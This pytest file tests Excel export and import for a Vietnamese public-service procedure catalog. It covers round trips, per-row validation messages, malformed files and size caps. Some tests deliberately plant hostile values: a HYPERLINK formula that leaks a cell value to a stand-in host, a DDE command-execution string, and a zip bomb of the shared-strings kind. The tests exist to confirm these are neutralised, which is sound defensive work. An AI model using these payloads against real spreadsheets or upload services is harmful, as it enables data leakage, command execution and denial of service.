import io

import pytest
from openpyxl import Workbook, load_workbook

from motcua.catalog.models import ChecklistItem, FormField, Procedure
from motcua.catalog.services import catalog_export_excel
from motcua.catalog.tests.workbooks import GOOD, import_workbook, workbook_bytes
from motcua.core.errors import ValidationFailed


def snapshot():
    return [
        (
            p.code,
            p.name,
            p.name_folded,
            p.field.code,
            p.field.name,
            p.responsible_kind,
            p.time_unit,
            p.time_value,
            p.time_value_difficult,
            p.fee_vnd,
            p.fee_note,
            p.online_level,
            p.legal_basis,
            p.result_name,
            p.is_active,
            [(c.name, c.form, c.quantity, c.required) for c in p.checklist.all()],
            [(f.key, f.label, f.kind, f.required, f.choices) for f in p.form_fields.all()],
        )
        for p in Procedure.objects.select_related("field")
        .prefetch_related("checklist", "form_fields")
        .order_by("code")
    ]


def test_export_then_import_round_trips(starter):
    before = snapshot()
    data = catalog_export_excel()
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames[:3] == ["Thủ tục", "Giấy tờ", "Tờ khai"]
    assert wb["Thủ tục"].max_row == starter.created + 1

    Procedure.objects.update(name="x", fee_vnd=1, is_active=False)
    ChecklistItem.objects.filter(position=1).update(name="đã sửa")
    FormField.objects.filter(key="ho_ten_tre").delete()

    applied = import_workbook(data)
    assert applied.added_count == 0
    assert applied.changed_count == starter.created
    assert snapshot() == before


def test_export_keeps_text_that_looks_like_a_formula(starter):
    Procedure.objects.filter(code="1.001193").update(fee_note="=1+1")
    data = catalog_export_excel()
    import_workbook(data)
    assert Procedure.objects.get(code="1.001193").fee_note == "=1+1"


def test_import_creates_new_procedure_with_labels_and_grouped_fee(db):
    data = workbook_bytes(
        [GOOD],
        checklist=[["9.000001", 1, "Đơn đề nghị", "Bản chính", 2, "Có"]],
        form=[["9.000001", 1, "ho_ten", "Họ và tên", "Chữ", "Có", ""]],
    )
    applied = import_workbook(io.BytesIO(data))
    assert applied.added_count == 1
    p = Procedure.objects.get(code="9.000001")
    assert (p.fee_vnd, p.time_value, p.online_level, p.responsible_kind) == (8000, 5, "FULL", "OFFICE")
    assert p.name_folded == "thu tuc thu nghiem"
    assert p.field.code == "linh-vuc-thu"
    assert p.checklist.get().quantity == 2


def test_import_with_two_bad_rows_imports_nothing_and_reports_both(starter):
    bad_fee = [*GOOD]
    bad_fee[0], bad_fee[8] = "9.000002", -5
    missing_days = [*GOOD]
    missing_days[0], missing_days[6] = "9.000003", None
    another = ["9.000004", *GOOD[1:]]
    data = workbook_bytes([GOOD, another, bad_fee, missing_days])
    count = Procedure.objects.count()
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(data)
    details = exc.value.details
    assert len(details) == 2
    assert details[0].startswith("Sheet 'Thủ tục', dòng 4:")
    assert "Lệ phí" in details[0]
    assert details[1].startswith("Sheet 'Thủ tục', dòng 5:")
    assert "cần ghi Thời hạn" in details[1]
    assert Procedure.objects.count() == count
    assert not Procedure.objects.filter(code__startswith="9.").exists()


def test_import_reports_every_kind_of_bad_row(db):
    unknown_kind = [
        "9.000010",
        "Tên",
        "",
        "Lĩnh vực",
        "Phòng Bí Mật",
        "Tuần",
        None,
        None,
        0,
        "",
        "Có lẽ",
        "",
        "",
        "Có",
    ]
    missing_name = [
        "9.000011",
        "",
        "",
        "Lĩnh vực",
        "OFFICE",
        "ON_THE_SPOT",
        None,
        None,
        0,
        "",
        "NONE",
        "",
        "",
        "",
    ]
    data = workbook_bytes(
        [GOOD, GOOD, unknown_kind, missing_name],
        checklist=[
            ["1.234567", 1, "Đơn", "Bản chính", 1, "Có"],
            ["9.000001", 1, "Đơn", "Bản gì đó", 0, "Có"],
        ],
        form=[["9.000001", 1, "Họ Tên", "Họ tên", "Lựa chọn", "Có", ""]],
    )
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(data)
    text = "\n".join(exc.value.details)
    assert "Sheet 'Thủ tục', dòng 3: mã thủ tục '9.000001' bị trùng với dòng 2" in text
    assert "Sheet 'Thủ tục', dòng 4:" in text and "Phòng Bí Mật" in text and "'Tuần'" in text
    assert "Mức độ trực tuyến 'Có lẽ'" in text
    assert "Sheet 'Thủ tục', dòng 5: thiếu Tên thủ tục" in text
    assert "Sheet 'Giấy tờ', dòng 2: mã thủ tục '1.234567' không có trong sheet 'Thủ tục'" in text
    assert "Sheet 'Giấy tờ', dòng 3:" in text and "Hình thức 'Bản gì đó'" in text and "Số lượng" in text
    assert "Sheet 'Tờ khai', dòng 2:" in text and "Mã trường 'Họ Tên'" in text and "Các lựa chọn" in text
    assert Procedure.objects.count() == 0


def test_import_refuses_missing_columns(db):
    wb = Workbook()
    wb.active.title = "Thủ tục"
    wb.active.append(["Mã thủ tục", "Tên thủ tục"])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(buf.getvalue())
    assert "Sheet 'Thủ tục', dòng 1: thiếu cột" in exc.value.details[0]
    assert "'Đơn vị chủ trì'" in exc.value.details[0]


def test_text_file_renamed_xlsx_is_refused_clearly(db, tmp_path):
    fake = tmp_path / "danh-muc.xlsx"
    fake.write_text("Mã thủ tục;Tên thủ tục\n1.001193;Khai sinh\n", encoding="utf-8")
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(fake)
    assert exc.value.message == "Tệp tải lên không phải là tệp Excel .xlsx hợp lệ."
    assert ".xlsx" in exc.value.details[0]


def test_zip_that_is_not_a_workbook_is_refused(db):
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("hello.txt", "xin chào")
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(buf.getvalue())
    assert exc.value.code == "not_xlsx"


def test_workbook_without_procedure_sheet_is_refused(db):
    wb = Workbook()
    wb.active.title = "Sheet1"
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ValidationFailed, match="không có sheet 'Thủ tục'"):
        import_workbook(buf.getvalue())


def test_code_typed_as_a_number_keeps_its_trailing_zeros(db):
    row = [*GOOD]
    row[0] = 1.00011  # Excel turns a typed 1.000110 into a number
    import_workbook(workbook_bytes([row]))
    assert Procedure.objects.filter(code="1.000110").exists()


def test_export_writes_a_formula_like_name_as_literal_text(starter):
    hostile = '=HYPERLINK("http://ke-xau.example/?"&B2,"Bấm vào đây")'
    Procedure.objects.filter(code="1.001193").update(name=hostile, legal_basis="+cmd|' /C calc'!A0")
    wb = load_workbook(io.BytesIO(catalog_export_excel()))
    formulas = [
        cell.coordinate
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    row = next(r for r in wb["Thủ tục"].iter_rows(min_row=2) if r[0].value == "1.001193")
    assert row[1].value == hostile and row[1].data_type == "s"
    assert row[11].value == "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (8, 10**15, "Lệ phí (đồng) không được lớn hơn 1.000.000.000"),
        (8, "9" * 5000, "Lệ phí (đồng) '999999999999999999999999999999' phải là số nguyên"),
        (6, 3_000_000_000, "Thời hạn không được lớn hơn 1.000"),
        (11, "Luật " * 2000, "Căn cứ pháp lý dài quá 5000 ký tự"),
        (1, "Tên " * 200, "Tên thủ tục dài quá 400 ký tự"),
        (9, "x" * 301, "Ghi chú lệ phí dài quá 300 ký tự"),
    ],
)
def test_over_long_or_out_of_range_cells_are_named_not_a_server_error(db, column, value, message):
    row = [*GOOD]
    row[column] = value
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(workbook_bytes([row]))
    assert len(exc.value.details) == 1
    assert exc.value.details[0].startswith(f"Sheet 'Thủ tục', dòng 2: {message}")
    assert not Procedure.objects.exists()


def test_quantity_beyond_the_column_range_is_a_row_error(db):
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(workbook_bytes([GOOD], checklist=[["9.000001", 1, "Đơn", "Bản chính", 40000, "Có"]]))
    assert exc.value.details == ["Sheet 'Giấy tờ', dòng 2: Số lượng không được lớn hơn 100 (đang ghi 40.000)"]


def test_control_characters_in_a_cell_are_dropped(db):
    row = [*GOOD]
    row[1] = "Thủ tục\x85 thử\x9f nghiệm"  # C1 controls are legal XML but never text
    import_workbook(workbook_bytes([row]))
    assert Procedure.objects.get(code="9.000001").name == "Thủ tục thử nghiệm"


SHARED_STRINGS_REL = (
    b'<Relationship Id="rIdBomb" Target="sharedStrings.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
)
SHARED_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def test_a_shared_strings_bomb_is_refused_before_it_is_unpacked(db):
    import time
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook_bytes([GOOD]))) as src, zipfile.ZipFile(buf, "w") as bomb:
        for entry in src.infolist():
            content = src.read(entry.filename)
            if entry.filename == "xl/_rels/workbook.xml.rels":
                content = content.replace(b"</Relationships>", SHARED_STRINGS_REL + b"</Relationships>")
            if entry.filename == "[Content_Types].xml":
                content = content.replace(b"</Types>", SHARED_STRINGS_TYPE + b"</Types>")
            bomb.writestr(entry, content, compress_type=zipfile.ZIP_DEFLATED)
        huge = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
        huge += b"a" * (100 * 1024 * 1024) + b"</t></si></sst>"
        bomb.writestr("xl/sharedStrings.xml", huge, compress_type=zipfile.ZIP_DEFLATED)
    data = buf.getvalue()
    assert len(data) < 1024 * 1024
    started = time.monotonic()
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(data)
    assert time.monotonic() - started < 2
    assert exc.value.code == "too_large"
    assert "quá lớn khi giải nén" in exc.value.message


def test_a_sheet_with_more_rows_than_the_cap_is_refused(db, monkeypatch):
    from motcua.catalog import services

    monkeypatch.setattr(services, "MAX_ROWS", 3)
    rows = [[f"9.00000{i}", *GOOD[1:]] for i in range(1, 5)]
    assert import_workbook(workbook_bytes(rows[:3])).added_count == 3
    with pytest.raises(ValidationFailed) as exc:
        import_workbook(workbook_bytes(rows))
    assert exc.value.code == "too_many_rows"
    assert exc.value.message.startswith("Sheet 'Thủ tục' có hơn 3 dòng")
    assert Procedure.objects.count() == 3
